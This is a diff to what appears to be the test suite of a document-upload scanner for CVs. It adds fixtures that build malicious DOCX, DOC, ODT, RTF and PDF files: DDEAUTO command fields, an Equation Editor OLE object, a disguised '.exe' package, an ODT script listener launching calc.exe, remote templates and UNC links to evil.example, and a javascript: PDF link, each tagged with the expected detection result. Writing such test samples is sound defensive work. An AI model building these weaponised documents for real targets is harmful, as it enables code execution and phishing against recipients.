@@ -462,6 +462,133 @@ NAMES = {"rtf": "cv.rtf", "pdf": "cv.pdf", "docx": "cv.docx", "doc": "cv.doc", "
 NAMES.update({"png": "photo.png", "jpeg": "photo.jpg"})
 
 
+# --------------------------------------------------------------------------- more of the same families
+
+
+def _nested_quote_dde() -> bytes:
+    """{ {QUOTE "DDEAUTO"} c:\\...cmd.exe }: the outer instruction is the inner field's result."""
+    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    sep = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    instr = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
+    return samples.word(
+        "<w:p>"
+        + begin
+        + instr.format(" ")
+        + begin
+        + instr.format(' QUOTE "DDEAUTO" ')
+        + sep
+        + "<w:r><w:t>DDEAUTO</w:t></w:r>"
+        + end
+        + instr.format(f" {DDE_CMD} ")
+        + sep
+        + "<w:r><w:t>x</w:t></w:r>"
+        + end
+        + "</w:p>"
+    )
+
+
+def _duplicate_entry() -> bytes:
+    """Two word/_rels/settings.xml.rels: readers differ on which one counts."""
+    import warnings
+
+    data = samples.word(settings_rels=_template_rel())
+    src = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
+        with zipfile.ZipFile(out, "w") as z:
+            for info in src.infolist():
+                z.writestr(info, src.read(info))
+            z.writestr(
+                "word/_rels/settings.xml.rels",
+                f'<Relationships xmlns="{samples.PKG_RELS}"/>',
+            )
+    return out.getvalue()
+
+
+def _odt_content(xml: str) -> bytes:
+    """The odfpy CV with `xml` added to its text body."""
+    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for info in src.infolist():
+            body = src.read(info)
+            if info.filename == "content.xml":
+                body = body.replace(b"</office:text>", xml.encode() + b"</office:text>")
+            z.writestr(info, body)
+    return out.getvalue()
+
+
+ODF_NS = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink" '
+    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
+)
+EQUATION_CLSID = bytes.fromhex("02ce020000000000c000000000000046")
+
+MORE_ATTACKS = {
+    "docx-dde-via-nested-quote-field": (_nested_quote_dde(), "file_remote_content"),
+    "docx-duplicate-part-names": (_duplicate_entry(), "file_damaged"),
+    "docx-ole-equation-editor": (
+        _embedding(
+            "oleObject1.bin",
+            samples.ole2({"Equation Native": b"\x1c\x00" * 64}, root_clsid=EQUATION_CLSID),
+        ),
+        "file_active_content",
+    ),
+    "docx-ole-package-exe-trailing-dot": (
+        _embedding("oleObject1.bin", _package_object("invoice.exe. ", b"just text")),
+        "file_executable",
+    ),
+    "doc-dde-field": (
+        samples.word97(text=f"Jane \x13 DDEAUTO {DDE_CMD} \x14x\x15 Doe".encode()),
+        "file_remote_content",
+    ),
+    "doc-dde-field-utf16": (
+        samples.word97(text=f"Jane \x13 DDEAUTO {DDE_CMD} \x14x\x15 Doe".encode("utf-16-le")),
+        "file_remote_content",
+    ),
+    "odt-event-listener-python-script": (
+        _odt_content(
+            f"<text:p {ODF_NS}><office:event-listeners><script:event-listener "
+            'script:language="ooo:script" script:event-name="dom:mouseover" '
+            'xlink:href="vnd.sun.star.script:../../../program/python-core/lib/pydoc.py'
+            '$tempfilepager(1, calc.exe )?language=Python&amp;location=share" '
+            'xlink:type="simple"/></office:event-listeners>Jane</text:p>'
+        ),
+        "file_active_content",
+    ),
+    "odt-linked-image-unc": (
+        _odt_content(
+            f"<text:p {ODF_NS}><draw:frame><draw:image "
+            'xlink:href="file://evil.example/share/logo.png" xlink:type="simple"/>'
+            "</draw:frame></text:p>"
+        ),
+        "file_remote_content",
+    ),
+    "odt-dde-connection": (
+        _odt_content(
+            f'<text:dde-connection-decls {ODF_NS}><text:dde-connection-decl office:name="x" '
+            'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
+            "</text:dde-connection-decls>"
+        ),
+        "file_remote_content",
+    ),
+    "rtf-template-unicode-escaped": (
+        _rtf("{\\*\\template \\u92?\\u92?evil.example\\\\share\\\\t.dotm}Jane"),
+        "file_remote_content",
+    ),
+    "pdf-uri-javascript-scheme": (
+        _link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
+        "file_active_content",
+    ),
+}
+ATTACKS.update(MORE_ATTACKS)
+
+
 def _name(case: str) -> str:
     return NAMES[case.split("-", 1)[0]]
 
@@ -490,6 +617,12 @@ GOOD = {
     ),
     "rtf-with-picture-and-hyperlink": (samples.rtf_cv, "cv.rtf", RTF, "CV"),
     "doc-without-objects": (samples.word97, "cv.doc", DOC, "CV"),
+    "doc-with-page-field": (
+        lambda: samples.word97(text=b"Jane \x13 PAGE \x141\x15 Doe"),
+        "cv.doc",
+        DOC,
+        "CV",
+    ),
     "docx-embedding-a-pdf-package": (
         lambda: _embedding("oleObject1.bin", _package_object("references.pdf", samples.pdf())),
         "cv.docx",
